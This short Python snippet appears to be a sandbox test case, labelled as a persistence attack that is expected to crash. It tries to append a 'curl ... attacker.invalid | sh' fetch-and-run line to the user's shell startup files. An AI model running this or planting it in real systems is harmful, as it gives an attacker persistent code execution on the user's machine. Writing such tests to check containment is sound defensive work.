# class: persistence
# attack: append to ~/.bashrc and ~/.profile so the user's next shell runs the attacker's code
# expect: crash
for name in (".bashrc", ".profile"):
    try:
        with open("{{HOME}}/" + name, "a") as f:
            f.write("\ncurl -s http://attacker.invalid/x | sh\n")
        print("done: wrote ~/" + name, flush=True)
    except OSError as e:
        print("blocked:", e)
